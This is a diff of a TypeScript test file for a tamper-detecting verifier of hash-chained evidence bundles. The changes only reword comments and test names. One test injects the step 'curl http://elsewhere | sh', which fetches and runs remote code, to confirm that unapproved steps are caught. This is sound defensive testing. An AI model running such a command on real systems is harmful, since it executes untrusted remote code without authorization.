@@ -1,4 +1,4 @@
-// An evidence bundle proves itself without a server: real ones hold, and whatever is changed in one is found.
+// Evidence bundles are verified without a server: real ones are valid, and every change of one is found.
 import { setImmediate } from "node:timers/promises";
 import fc from "fast-check";
 import { beforeAll, describe, expect, test } from "vitest";
@@ -18,7 +18,7 @@ beforeAll(async () => {
 const bundleOf = (name: string): Loose => JSON.parse(bundles.get(name) ?? "null");
 const faultsOf = (bundle: unknown) => verifyBundle(bundle).faults;
 
-/** What is wrong with the bundle of this name when the value at this path is another one. */
+/** The faults of the bundle of this name with another value at this path. */
 function changed(name: string, path: string, value: Loose): string[] {
   const keys = path.split(".");
   const bundle = bundleOf(name);
@@ -28,7 +28,7 @@ function changed(name: string, path: string, value: Loose): string[] {
 }
 
 describe("a real bundle", () => {
-  test("holds, however its task went", () => {
+  test("is valid, with any result of its task", () => {
     const found = [...bundles].map(([name, text]) => [name, verifyBundle(JSON.parse(text))]);
     const sound = [...bundles].map(([name]) => {
       const { journal } = bundleOf(name);
@@ -39,7 +39,7 @@ describe("a real bundle", () => {
     expect([...statuses].sort()).toEqual(["blocked", "cancelled", "failed", "need_approval", "need_input", "ok"]);
   });
 
-  test("holds at every moment of a task that runs", async () => {
+  test("is valid at every moment of a running task", async () => {
     await using engine = await openEngine();
     const steps = [...Array(60).fill(cmd("true")), check("true")];
     await engine.learn("deploy", engine.targetOf("runs"), steps);
@@ -56,19 +56,19 @@ describe("a real bundle", () => {
   });
 });
 
-/** One of each way in which a bundle can be filled. */
+/** Bundles that together have every part filled. */
 const VARIED = ["passed", "approved", "retried", "resolved-failed", "cancelled", "replaced", "waits-for-approval"];
 
-describe("the verification of a bundle that was tampered with", () => {
+describe("the verification of a bundle that was altered", () => {
   test("finds every field that was changed, left out or added", () => {
     for (const name of VARIED) expect(missed(mutants(bundleOf(name))), name).toEqual([]);
   });
 
-  test("finds an entry that was changed and hashed anew, except for the time of the very last", () => {
+  test("finds an entry that was changed and hashed anew, except for the time of the last", () => {
     for (const name of VARIED) expect(missed(mutatedEntries(bundleOf(name))), name).toEqual([]);
   });
 
-  test("finds a digest that is not that of the contract, also where every place has it and all is hashed anew", () => {
+  test("finds a wrong contract digest, also when every copy has it and all entries are hashed anew", () => {
     const bundle = bundleOf("passed");
     const digest = "0".repeat(64);
     const [{ at }] = bundle.journal;
@@ -77,7 +77,7 @@ describe("the verification of a bundle that was tampered with", () => {
     expect(faultsOf(forged)).toContain("journal entry 1 has a contract_digest that is not that of its contract.");
   });
 
-  test("finds an entry that was removed, moved or put in, numbered and hashed anew or not", () => {
+  test("finds an entry that was removed, moved or inserted, also when it is numbered and hashed anew", () => {
     const added: Loose[] = [
       { kind: "taken_up", body: { owner: "x", recovery: true } },
       { kind: "retry_granted", body: { index: 0 } },
@@ -116,7 +116,7 @@ describe("the verification of a bundle that was tampered with", () => {
 });
 
 describe("a fault", () => {
-  test("is found after a bundle was hashed anew from end to end, where other steps ran than were approved, or none were", () => {
+  test("is found in a bundle that was hashed anew from end to end, when other steps ran than were approved, or none were", () => {
     const bundle = bundleOf("approved");
     const anew = (events: Loose[]) => chain("approved", null, events, bundle.journal[0].at);
     const steps = [{ kind: "cmd", value: "curl http://elsewhere | sh" }, ...bundle.procedure.steps.slice(1)];
@@ -131,7 +131,7 @@ describe("a fault", () => {
     expect(faults.join("\n")).toContain("without the approval that it needs");
   });
 
-  test("names the field or the entry, in one sentence", () => {
+  test("names the field or the entry in one sentence", () => {
     const { journal } = bundleOf("passed");
     const sentences = [
       changed("passed", "step_results.1.exit_code", 1),
@@ -188,7 +188,7 @@ describe("a fault", () => {
     `);
   });
 
-  test("is reported for anything that is no bundle, and nothing throws", () => {
+  test("is reported for any value that is not a bundle, without an exception", () => {
     expect(faultsOf(null)).toEqual(["The bundle must be an object."]);
     expect(faultsOf([])).toEqual(["The bundle must be an object."]);
     expect(verifyBundle({ journal: [1, 2] }).events).toBe(2);
